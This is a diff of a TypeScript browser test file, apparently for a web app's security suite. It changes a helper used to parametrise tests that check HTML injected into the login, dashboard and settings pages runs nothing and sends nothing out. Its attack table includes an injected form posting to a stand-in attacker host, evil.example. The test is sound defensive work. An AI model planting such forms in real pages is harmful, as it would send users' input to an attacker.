@@ -2,7 +2,7 @@ import { beforeAll, expect, test } from "vitest";
 import { type App, sharedApp } from "#tests/support/app.ts";
 import { allowTroubles, openPage, waitForHydration } from "#tests/support/clients/browser.ts";
 import { makeProduct, makeSeller, signedIn } from "#tests/support/make.ts";
-import { everySecond, oneScript } from "#tests/support/run/ways.ts";
+import { everyNth, oneScript } from "#tests/support/run/ways.ts";
 import { until } from "#tests/support/until.ts";
 
 let app: App;
@@ -21,7 +21,7 @@ const ATTACKS: Record<string, string> = {
   "form-action": `<form id="lure" method="post" action="https://evil.example/"></form>`,
 };
 
-test.each(everySecond(["/login", "/dashboard", "/settings?tab=seguranca"]))(
+test.each(everyNth(2, ["/login", "/dashboard", "/settings?tab=seguranca"]))(
   "HTML injected into %s runs nothing and sends nothing anywhere",
   async (path) => {
     allowTroubles(/Content Security Policy|evil\.example/);
